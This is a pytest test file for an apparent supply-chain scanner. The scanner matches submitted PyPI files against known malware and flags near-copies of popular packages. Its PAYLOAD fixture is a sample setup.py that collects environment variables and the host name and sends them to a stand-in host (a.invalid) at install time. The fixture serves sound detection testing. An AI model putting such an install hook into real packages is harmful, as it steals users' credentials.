"""From files to clones."""

import hashlib

import pytest

from pratique.analysis.clones import squeezed
from pratique.analysis.clones.finding import FEWEST_SHINGLES, LEAST_LIKENESS, find
from pratique.analysis.clones.index import EVERY_KEY, NOTHING, Index
from pratique.analysis.clones.matches import Clones
from pratique.analysis.clones.shingles import shingles
from pratique.analysis.facts import Language
from pratique.analysis.languages import readers
from pratique.core.names import Ecosystem
from pratique.core.tree import File, Tree

PAYLOAD = b"""import os, platform, urllib.request
from setuptools import setup

def collect(names):
    found = {name: os.environ.get(name) for name in names if name in os.environ}
    found["where"] = platform.node() or "unknown"
    return "&".join(f"{key}={value}" for key, value in sorted(found.items()))

urllib.request.urlopen("http://a.invalid/?" + collect(["FIRST", "SECOND"]))
setup(name="marker", version="1.0")
"""
GOOD = {
    f"good/{name}.py": f"def {name}(value):\n    return [value] * 3\n".encode() * 5 for name in "abcdefghij"
}


def clones(files: dict[str, bytes], index: Index, *, name: str = "sample") -> Clones:
    tree = Tree(tuple(File(path, data) for path, data in files.items()))
    facts = {file.path: readers.read(file, Language.PYTHON) for file in tree}
    return find(tree, facts, index, ecosystem=Ecosystem.PYPI, name=name)


def malware(source: bytes = PAYLOAD) -> Index:
    sketch = sorted(shingles(source))[:32]
    return Index(
        families=("pypi:bad@1",),
        digests=[int(hashlib.sha256(source).hexdigest()[:16], 16)],
        digest_families=[0],
        shingles=sketch,
        shingle_families=[0] * len(sketch),
    )


def popular(files: dict[str, bytes] = GOOD, name: str = "pypi:good@2.0") -> Index:
    keys = sorted(squeezed.key(path, data) for path, data in files.items())
    return Index(packages=(name,), limits=[EVERY_KEY], keys=keys, key_packages=[0] * len(keys))


def test_a_file_of_known_malware_is_told_as_such() -> None:
    (match,) = clones({"setup.py": PAYLOAD}, malware()).malware
    assert match.exact
    assert "pypi:bad@1" == match.family


def test_one_with_other_strings_is_near() -> None:
    other = (
        PAYLOAD.replace(b"a.invalid", b"b.invalid").replace(b"marker", b"other").replace(b'"1.0"', b'"2.0"')
    )
    (match,) = clones({"setup.py": other}, malware()).malware
    assert not match.exact
    assert match.likeness >= LEAST_LIKENESS


def test_one_with_other_code_is_no_clone() -> None:
    other = b"import os\nfor part in os.listdir('.'):\n    os.system('echo ' + part.strip().lower())\n"
    assert () == clones({"setup.py": other}, malware()).malware


def test_a_file_that_carries_no_payload_is_not_compared() -> None:
    quiet = b"".join(line for line in PAYLOAD.splitlines(keepends=True) if b"urlopen" not in line)
    assert () == clones({"setup.py": quiet.replace(b", urllib.request", b"")}, malware()).malware


def test_a_family_that_is_left_out_is_not_told() -> None:
    assert () == clones({"setup.py": PAYLOAD}, malware().without({"pypi:bad@1"})).malware


def test_a_copy_of_a_popular_package_is_told_with_what_differs() -> None:
    files = {path.replace("good/", "goood/"): data for path, data in GOOD.items()}
    files["goood/a.py"] = b"import os\nos.system('echo marker')\n" + files["goood/a.py"]
    files["goood/extra.py"] = b"x = 1\n" * 40
    (match,) = clones(files, popular(), name="goood").copies
    assert ("good", "2.0") == (match.package, match.version)
    assert 9 == match.same
    assert ("goood/a.py", "goood/extra.py") == match.differing


@pytest.mark.parametrize(
    ("files", "index", "name"),
    [
        (GOOD, popular(), "good"),
        (dict(list(GOOD.items())[:6]), popular(), "sample"),
        (GOOD, popular(name="npm:good@2.0"), "sample"),
        (
            {**GOOD, **{f"own/{n}.py": f"x{n} = {'y' * n}\n".encode() * 40 for n in range(30)}},
            popular(),
            "sample",
        ),
        (GOOD, NOTHING, "sample"),
    ],
    ids=["itself", "too little of it", "of another registry", "ships it within", "nothing known"],
)
def test_what_is_no_copy_stays_quiet(files: dict[str, bytes], index: Index, name: str) -> None:
    assert () == clones(files, index, name=name).copies


def test_a_sketch_is_long_enough_to_tell() -> None:
    assert len(shingles(PAYLOAD)) >= FEWEST_SHINGLES
